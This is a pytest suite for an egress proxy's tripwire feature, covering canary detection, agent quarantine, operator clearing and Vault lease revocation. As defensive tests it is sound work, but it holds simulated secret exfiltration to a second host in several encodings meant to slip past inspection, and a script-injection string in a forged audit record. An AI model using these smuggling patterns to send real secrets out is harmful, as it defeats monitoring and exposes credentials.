"""Tripwires through the real proxy (docs/tripwires.md): a canary in any surface and
encoding trips the wire; a trip quarantines the agent (every further request refused,
`agent_quarantined`) until an operator clears it with the token, ends its open
connections, and is audited and counted; other agents carry on; with workers the whole
proxy follows one book; a real secret seen going out gets its Vault lease revoked."""

from __future__ import annotations

import base64
import hashlib
import json
import re
import ssl
import threading
import time
from pathlib import Path
from typing import Any

import httpx
import pytest

from egress.config import parse
from egress.errors import ConfigError
from egress.tripwires import EVERYONE, Quarantine, QuarantineBook
from tests.canary import CANARIES
from tests.conftest import (
    API,
    OTHER,
    SECRET,
    RunningProxy,
    base_config,
    proxy_env,
    start_proxy,
    write_config,
)
from tests.upstream import Upstream

CANARY = "AKIA" + "TRIPWIRE7Q3MZX2L"  # a planted fake: never a working key
OPERATOR_TOKEN = "operator-token-for-tests-0123456789"
CANARIES.update({CANARY})


def _cfg(tmp: Path, ca_file: Path, port: int, **tripwires: Any) -> dict[str, Any]:
    cfg = base_config(tmp, ca_file, port)
    cfg["admin"] = {"host": "127.0.0.1", "port": 0}
    cfg["tripwires"] = {
        "canaries": [{"name": "aws-canary", "value": CANARY, "env": "AWS_ACCESS_KEY_ID"}],
        "operator_token_sha256": hashlib.sha256(OPERATOR_TOKEN.encode()).hexdigest(),
        **tripwires,
    }
    return cfg


def _admin(p: RunningProxy) -> str:
    m = re.search(r"admin listener on (http://\S+) ", p.stderr_path.read_text())
    assert m, p.stderr_path.read_text()
    return m.group(1)


def _client(p: RunningProxy, **kw: Any) -> httpx.Client:
    return httpx.Client(proxy=kw.pop("proxy", p.url), verify=ssl.create_default_context(cafile=str(p.ca)),
                        timeout=kw.pop("timeout", 20), **kw)  # fmt: skip


def _reason(p: RunningProxy, method: str, url: str, **kw: Any) -> str:
    """The reason egress refused a request with, from a new client: the CONNECT's status
    line (a quarantined agent gets no tunnel) or the response's X-Egress-Reason."""
    try:
        with _client(p, proxy=kw.pop("proxy", p.url)) as c:
            r = c.request(method, url, **kw)
    except httpx.ProxyError as e:
        m = re.search(r"egress: (\w+) for", str(e))
        assert m, str(e)
        return m.group(1)
    return r.headers.get("x-egress-reason", str(r.status_code))


def _records(p: RunningProxy, event: str, n: int = 1, timeout: float = 10) -> list[dict[str, Any]]:
    deadline = time.monotonic() + timeout
    while True:
        found = [r for r in p.audit() if r.get("event") == event]
        if len(found) >= n or time.monotonic() > deadline:
            return found
        time.sleep(0.05)


@pytest.fixture
def tripped_proxy(tmp_path: Path, upstream: Upstream, test_ca_file: Path) -> Any:
    p = start_proxy(write_config(tmp_path, _cfg(tmp_path, test_ca_file, upstream.port)), tmp_path)
    try:
        yield p
    finally:
        assert p.stop() == 0
        assert CANARY not in p.outputs() and SECRET not in p.outputs()


ENCODED = {
    "header": lambda c: {"headers": {"x-debug": f"key={CANARY}"}},
    "query": lambda c: {"params": {"k": CANARY}},
    "body base64": lambda c: {"json": {"blob": base64.b64encode(f"id {CANARY}".encode()).decode()}},
    "body hex": lambda c: {"content": CANARY.encode().hex().encode()},
    "body percent": lambda c: {"content": "".join(f"%{b:02x}" for b in CANARY.encode()).encode()},
}


@pytest.mark.parametrize("where", list(ENCODED))
def test_a_canary_anywhere_trips_and_quarantines_until_the_operator_clears_it(
    tripped_proxy: RunningProxy, upstream: Upstream, where: str
) -> None:
    p = tripped_proxy
    url = f"https://{API}:{upstream.port}/v1/x"
    with _client(p) as c:
        r = c.post(url, **ENCODED[where](CANARY))
        assert (r.status_code, r.headers["x-egress-reason"]) == (403, "canary_tripped"), r.text
        assert CANARY not in r.text
    # Every further request of this proxy's agent is refused, to any allowed host: a new
    # tunnel at its CONNECT, a request on a connection that was open at its start.
    assert _reason(p, "GET", f"https://{OTHER}:{upstream.port}/clean") == "agent_quarantined"
    with httpx.Client(proxy=p.url, timeout=20) as plain:  # plain HTTP: the body says why
        r = plain.get(f"http://{API}:{upstream.port}/clean")
        assert r.headers["x-egress-reason"] == "agent_quarantined"
        assert "quarantined since" in r.text and "canary" in r.text
    assert not [q for q in upstream.recorder.requests if q.path in ("/v1/x", "/clean")]
    (trip,) = _records(p, "tripwire")
    assert trip["trigger"] == "canary" and trip["quarantined"] == EVERYONE
    assert set(trip["actions"]) == {"quarantine", "end_connections"}
    admin = _admin(p)
    listed = httpx.get(f"{admin}/tripwires").json()["quarantined"]
    assert [(q["agent"], q["trigger"]) for q in listed] == [(EVERYONE, "canary")]
    # Clearing takes the operator token; the agent cannot clear itself without it.
    assert httpx.post(f"{admin}/tripwires/clear").status_code == 401
    empty = httpx.post(
        f"{admin}/tripwires/clear?agent=", headers={"authorization": f"Bearer {OPERATOR_TOKEN}"}
    )
    assert empty.status_code == 400  # an empty name is not "everyone"
    bad = httpx.post(f"{admin}/tripwires/clear", headers={"authorization": "Bearer guess"})
    assert bad.status_code == 401
    ok = httpx.post(
        f"{admin}/tripwires/clear", headers={"authorization": f"Bearer {OPERATOR_TOKEN}"}
    )
    assert ok.json() == {"cleared": [EVERYONE]}
    with _client(p) as c:
        assert c.get(f"https://{OTHER}:{upstream.port}/after").status_code == 200
    (cleared,) = _records(p, "tripwire_cleared")
    assert cleared["agents"] == [EVERYONE]
    metrics = httpx.get(f"{admin}/metrics").text
    assert 'egress_tripwires_total{trigger="canary"} 1.0' in metrics
    assert "egress_quarantined_agents 0.0" in metrics
    if where == "header":  # egress review --audit shows what happened
        import subprocess
        import sys

        for fmt, want in (
            ("text", "canary by *: quarantine, end_connections"),
            ("markdown", "**Tripwires** (2)"),
        ):
            review = subprocess.run([sys.executable, "-m", "egress", "review", "--config", str(p.config),
                                     "--audit", str(p.audit_path), "--format", fmt],
                                    capture_output=True, text=True, timeout=60)  # fmt: skip
            assert want in review.stdout, review.stdout + review.stderr
            assert CANARY not in review.stdout


def test_a_real_secret_to_an_unbound_host_trips_the_wire(
    tripped_proxy: RunningProxy, upstream: Upstream
) -> None:
    assert _reason(tripped_proxy, "POST", f"https://{OTHER}:{upstream.port}/leak",
                   json={"t": SECRET}) == "secret_to_unbound_host"  # fmt: skip
    assert (
        _reason(tripped_proxy, "GET", f"https://{API}:{upstream.port}/next") == "agent_quarantined"
    )
    trips = _records(tripped_proxy, "tripwire", 2)
    assert trips[0]["trigger"] == "secret_to_unbound_host" and trips[0]["secret"] == "api_token"
    assert "revoke_leaked_secret" in trips[0]["actions"]
    # Not a Vault secret: nothing to revoke, and the record says what to do instead.
    assert trips[1]["lease"].startswith("not_vault")


def _stream_post(p: RunningProxy, url: str, pieces: list[bytes], timeout: float = 20) -> str:
    """A body over limits.max_body_bytes, sent in pieces: the reason, or how it ended."""

    def gen() -> Any:
        for piece in pieces:
            yield piece
            time.sleep(0.05)

    try:
        with _client(p, timeout=timeout) as c:
            r = c.post(url, content=gen(), headers={"content-length": str(sum(map(len, pieces)))})
    except httpx.HTTPError as e:
        return type(e).__name__
    return r.headers.get("x-egress-reason", str(r.status_code))


@pytest.mark.parametrize("cut", [3, 10, 17])
def test_a_canary_split_across_a_streamed_body_trips_before_it_goes(
    tripped_proxy: RunningProxy, upstream: Upstream, cut: int
) -> None:
    """A body over the limit streams: the canary is searched chunk by chunk with a window,
    the request is cut before the canary goes, and the connection is closed at once (no
    waiting for the client to give up)."""
    path = f"/v1/stream-canary-{cut}"
    pieces = [b"a" * 40_000 + CANARY[:cut].encode(), CANARY[cut:].encode() + b"b" * 40_000]
    started = time.monotonic()
    outcome = _stream_post(tripped_proxy, f"https://{OTHER}:{upstream.port}{path}", pieces)
    assert outcome != "200" and time.monotonic() - started < 10, outcome
    rec = [r for r in _records(tripped_proxy, "request") if r["path"] == path]
    assert rec and (rec[-1]["reason"], rec[-1]["status"]) == ("canary_tripped", None)
    (trip,) = _records(tripped_proxy, "tripwire")
    assert trip["trigger"] == "canary"
    sent = b"".join(q.body for q in upstream.recorder.requests if q.path == path)
    assert CANARY[:3].encode() + CANARY[3:6].encode() not in sent


def test_a_canary_in_trailers_trips(tripped_proxy: RunningProxy, upstream: Upstream) -> None:
    import socket

    from tests.rawclient import connect_tunnel

    s = connect_tunnel(tripped_proxy.port, API, upstream.port, tripped_proxy.ca)
    try:
        s.sendall(f"POST /v1/trailer HTTP/1.1\r\nhost: {API}:{upstream.port}\r\n"
                  "transfer-encoding: chunked\r\ntrailer: x-t\r\n\r\n"
                  f"5\r\nhello\r\n0\r\nx-t: {CANARY}\r\n\r\n".encode())  # fmt: skip
        answer = s.recv(65536)
    finally:
        s.close()
    assert b"canary_tripped" in answer and CANARY.encode() not in answer
    assert not [q for q in upstream.recorder.requests if q.path == "/v1/trailer"]
    _ = socket


def test_a_trip_ends_the_agents_open_connections(
    tripped_proxy: RunningProxy, upstream: Upstream
) -> None:
    """A response streaming to the agent (server-sent events, the second event 5 s later)
    is cut when the wire trips on another connection."""
    events: list[bytes] = []
    failed: list[BaseException] = []

    def listen() -> None:
        try:
            with (
                _client(tripped_proxy, timeout=30) as c,
                c.stream(
                    "GET", f"https://{API}:{upstream.port}/reflect?as=sse", headers={"x-pause": "5"}
                ) as r,
            ):
                for chunk in r.iter_raw():
                    events.append(chunk)
        except httpx.HTTPError as e:
            failed.append(e)

    t = threading.Thread(target=listen)
    t.start()
    deadline = time.monotonic() + 10
    while not events and time.monotonic() < deadline:
        time.sleep(0.05)
    assert events, "the first event never arrived"
    started = time.monotonic()
    assert (
        _reason(tripped_proxy, "GET", f"https://{API}:{upstream.port}/x", headers={"x-k": CANARY})
        == "canary_tripped"
    )
    t.join(15)
    assert not t.is_alive()
    assert time.monotonic() - started < 4, "the stream ran on to its end"
    assert b'"n": 2' not in b"".join(events)


def test_only_the_agent_that_tripped_is_quarantined(tmp_path: Path, upstream: Upstream,
                                                    test_ca_file: Path) -> None:  # fmt: skip
    cfg = _cfg(tmp_path, test_ca_file, upstream.port)
    cfg["identity"] = {"proxy_authorization": True}
    cfg["agents"] = [{"name": n, "token": {"sha256": hashlib.sha256(n.encode() * 4).hexdigest()}}
                     for n in ("alpha", "beta")]  # fmt: skip
    p = start_proxy(write_config(tmp_path, cfg), tmp_path)
    try:

        def proxy_of(name: str) -> str:
            return p.url.replace("http://", f"http://{name}:{name * 4}@")

        with _client(p, proxy=proxy_of("beta")) as b:  # open before alpha trips: stays open
            assert b.get(f"https://{API}:{upstream.port}/b0").status_code == 200
            assert _reason(p, "GET", f"https://{API}:{upstream.port}/a", params={"k": CANARY},
                           proxy=proxy_of("alpha")) == "canary_tripped"  # fmt: skip
            assert _reason(p, "GET", f"https://{API}:{upstream.port}/a2",
                           proxy=proxy_of("alpha")) == "agent_quarantined"  # fmt: skip
            assert b.get(f"https://{API}:{upstream.port}/b").status_code == 200
        assert (
            _reason(p, "GET", f"https://{API}:{upstream.port}/b2", proxy=proxy_of("beta")) == "200"
        )
        (trip,) = _records(p, "tripwire")
        assert (trip["agent"], trip["quarantined"]) == ("alpha", "alpha")
    finally:
        assert p.stop() == 0


def test_with_workers_every_worker_follows_one_book(tmp_path: Path, upstream: Upstream,
                                                    test_ca_file: Path) -> None:  # fmt: skip
    cfg = _cfg(tmp_path, test_ca_file, upstream.port)
    cfg["workers"] = 2
    p = start_proxy(write_config(tmp_path, cfg), tmp_path)
    try:
        assert (
            _reason(p, "GET", f"https://{API}:{upstream.port}/w", params={"k": CANARY})
            == "canary_tripped"
        )
        # New connections land on either worker: all are refused once the book is shared.
        deadline = time.monotonic() + 10
        refused = 0
        while refused < 8:
            reason = _reason(p, "GET", f"https://{OTHER}:{upstream.port}/w2")
            refused = refused + 1 if reason == "agent_quarantined" else 0
            assert time.monotonic() < deadline, "a worker kept serving the quarantined agent"
        ok = httpx.post(f"{_admin(p)}/tripwires/clear",
                        headers={"authorization": f"Bearer {OPERATOR_TOKEN}"})  # fmt: skip
        assert ok.json() == {"cleared": [EVERYONE]}
        deadline = time.monotonic() + 10
        served = 0
        while served < 8:
            served = (
                served + 1
                if _reason(p, "GET", f"https://{OTHER}:{upstream.port}/w3") == "200"
                else 0
            )
            assert time.monotonic() < deadline, "a worker kept the quarantine after it was cleared"
    finally:
        assert p.stop() == 0


def test_the_canary_is_planted_in_the_agents_environment(tmp_path: Path, upstream: Upstream,
                                                          test_ca_file: Path) -> None:  # fmt: skip
    import subprocess
    import sys

    path = write_config(tmp_path, _cfg(tmp_path, test_ca_file, upstream.port))
    run = subprocess.run([sys.executable, "-m", "egress", "exec", "--config", str(path), "--",
                          sys.executable, "-c", "import os; print(os.environ['AWS_ACCESS_KEY_ID'])"],
                         capture_output=True, text=True, timeout=60, env=proxy_env())  # fmt: skip
    assert run.returncode == 0, run.stderr
    assert run.stdout.strip() == CANARY


def test_a_workers_own_trip_survives_an_older_broadcast() -> None:
    book = QuarantineBook()
    mine = Quarantine("alpha", "canary", 1.0, "f1")
    book.add(mine, unconfirmed=True)
    book.replace([])  # the parent's book from before it heard of the trip
    assert book.of("alpha") == mine
    book.replace([mine.to_wire()])  # confirmed
    book.replace([])  # and then cleared by an operator
    assert book.of("alpha") is None


def test_the_book_keeps_the_first_trip_and_clears_by_agent() -> None:
    book = QuarantineBook()
    first = Quarantine("alpha", "canary", 1.0, "f1")
    assert book.add(first) and not book.add(Quarantine("alpha", "dlp_blocked", 2.0, "f2"))
    assert book.of("alpha") == first and book.of("beta") is None and book.of(None) is None
    book.add(Quarantine(EVERYONE, "canary", 3.0, "f3"))
    assert book.of("beta") is not None and book.of(None) is not None
    assert book.clear("alpha") == ["alpha"] and book.clear() == [EVERYONE]
    copy = QuarantineBook()
    copy.replace([first.to_wire()])
    assert copy.entries() == [first]


BAD = [
    ({"canaries": [{"name": "c", "value": "short"}]}, "tripwires.canaries[0].value: must be 16 to 512"),
    ({"canaries": [{"name": "api_token", "value": "A" * 20}]}, "names another secret or canary"),
    ({"canaries": [{"name": "c", "value": "x" * 20, "env": "1BAD"}]}, "is not an environment variable name"),
    ({"canaries": [{"name": "c", "value": "egress-api_token-placeholder-and-more"}]},
     "contains, or is contained in, a secret's placeholder"),
    ({"triggers": ["canery"]}, "tripwires.triggers[0]: 'canery' is not one of"),
    ({"actions": ["explode"]}, "tripwires.actions[0]: 'explode' is not one of"),
    ({"operator_token_sha256": "abc"}, "tripwires.operator_token_sha256: must be the SHA-256"),
    ({"canary": []}, "tripwires.canary: unknown key: did you mean 'canaries'?"),
]  # fmt: skip


@pytest.mark.parametrize(("block", "message"), BAD, ids=[m[:40] for _, m in BAD])
def test_a_bad_tripwires_block_names_the_key_and_the_fix(
    tmp_path: Path, block: Any, message: str
) -> None:
    cfg = {"allow": [API], "tripwires": block,
           "secrets": [{"name": "api_token", "source": {"env": "X"}, "hosts": [API]}]}  # fmt: skip
    with pytest.raises(ConfigError) as e:
        parse(json.loads(json.dumps(cfg)), "egress.yaml", tmp_path)
    assert message in str(e.value)


# --- a real OpenBao: the leaked value dies ---------------------------------------------------

from tests.test_vault import PH, _database_role, postgres, seeded, vault_config  # noqa: E402, F401


def _injected(p: RunningProxy, upstream: Upstream, path: str) -> str:
    """The value egress injected for the placeholder, as the upstream received it."""
    with _client(p) as c:
        r = c.get(f"https://{API}:{upstream.port}{path}", headers={"authorization": f"Bearer {PH}"})
        assert r.status_code == 200
    value = upstream.recorder.requests[-1].headers["authorization"].removeprefix("Bearer ")
    CANARIES.add(value)
    return value


def test_a_leaked_dynamic_secret_has_its_lease_revoked(
    tmp_path: Path,
    seeded: Any,  # noqa: F811 (the fixture imported above)
    upstream: Upstream,
    test_ca_file: Path,
    postgres: Any,  # noqa: F811
) -> None:
    """The agent got hold of the real database password (here: the test reads it at the
    upstream) and sends it to another host: the request is refused, the wire trips, and
    the parent revokes the lease, so OpenBao drops the database role: the leaked password
    no longer logs in. The proxy reads a new credential and, once an operator has cleared
    the quarantine, injects that one."""
    token = _database_role(seeded, postgres)
    cfg = vault_config(
        tmp_path, test_ca_file, upstream.port, seeded, {"method": "token", "token_env": "T"}
    )
    cfg["secrets"][0]["source"] = {
        "vault": {"engine": "read", "path": "database/creds/agent-ro", "key": "password"}
    }
    cfg["admin"] = {"host": "127.0.0.1", "port": 0}
    cfg["tripwires"] = {
        "operator_token_sha256": hashlib.sha256(OPERATOR_TOKEN.encode()).hexdigest()
    }
    p = start_proxy(write_config(tmp_path, cfg), tmp_path, proxy_env(T=token))
    try:
        leaked = _injected(p, upstream, "/db")
        (role,) = [r for r in postgres.dynamic_roles()
                   if postgres.psql("SELECT 1", user=r, password=leaked).returncode == 0]  # fmt: skip
        assert _reason(p, "POST", f"https://{OTHER}:{upstream.port}/exfil",
                       content=f"pw={leaked}".encode()) == "secret_to_unbound_host"  # fmt: skip
        deadline = time.monotonic() + 20
        while not [r for r in p.audit() if r.get("event") == "tripwire" and r.get("lease")]:
            assert time.monotonic() < deadline, p.audit()[-3:]
            time.sleep(0.1)
        (outcome,) = [r for r in p.audit() if r.get("event") == "tripwire" and r.get("lease")]
        assert (outcome["secret"], outcome["lease"]) == ("api_token", "lease_revoked")
        assert role not in postgres.dynamic_roles()
        assert postgres.psql("SELECT 1", user=role, password=leaked).returncode != 0
        ok = httpx.post(
            f"{_admin(p)}/tripwires/clear", headers={"authorization": f"Bearer {OPERATOR_TOKEN}"}
        )
        assert ok.json() == {"cleared": [EVERYONE]}
        fresh = _injected(p, upstream, "/db2")
        assert fresh != leaked
        (new_role,) = [r for r in postgres.dynamic_roles()
                       if postgres.psql("SELECT 1", user=r, password=fresh).returncode == 0]  # fmt: skip
        assert new_role != role
    finally:
        assert p.stop() == 0
    assert leaked not in p.outputs()


def test_review_shows_a_forged_tripwire_record_cleaned() -> None:
    """An audit log is read as untrusted input: a record's fields keep no control or markup
    characters and no unbounded length."""
    from egress.review.auditrecords import tripwire_entry

    rec = {"event": "tripwire", "time": "2026-12-04T08:00:00Z\x1b[2J", "trigger": "canary",
           "agent": "<script>alert(1)</script>" + "x" * 500, "actions": ["quarantine\n", 7]}  # fmt: skip
    shown = tripwire_entry(rec)
    assert shown is not None
    assert "\x1b" not in shown["time"] and "<" not in shown["agent"] and len(shown["agent"]) <= 120
    assert shown["actions"] == ["quarantine?"]
    assert tripwire_entry({"event": "request"}) is None


@pytest.mark.parametrize("trigger", ["dlp_blocked", "foreign_credential"])
def test_other_triggers_quarantine_too(tmp_path: Path, upstream: Upstream, test_ca_file: Path,
                                       trigger: str) -> None:  # fmt: skip
    """A data-loss block and a foreign credential (an Authorization egress did not put
    there, to a host egress injects for) trip the wire like a canary."""
    cfg = _cfg(tmp_path, test_ca_file, upstream.port, triggers=[trigger])
    cfg["dlp"] = {"rules": [{"detectors": ["credentials"], "action": "block"}]}
    p = start_proxy(write_config(tmp_path, cfg), tmp_path)
    try:
        if trigger == "dlp_blocked":
            key = "AKIA" + "Q7ZLMX3KV9WB2TNR"
            CANARIES.add(key)
            first = _reason(p, "POST", f"https://{OTHER}:{upstream.port}/t", json={"k": key})
        else:
            first = _reason(p, "GET", f"https://{API}:{upstream.port}/t",
                            headers={"authorization": "Bearer not-the-placeholder-0123456789"})  # fmt: skip
        assert first == trigger
        assert _reason(p, "GET", f"https://{OTHER}:{upstream.port}/after") == "agent_quarantined"
        (trip,) = _records(p, "tripwire")
        assert trip["trigger"] == trigger
    finally:
        assert p.stop() == 0
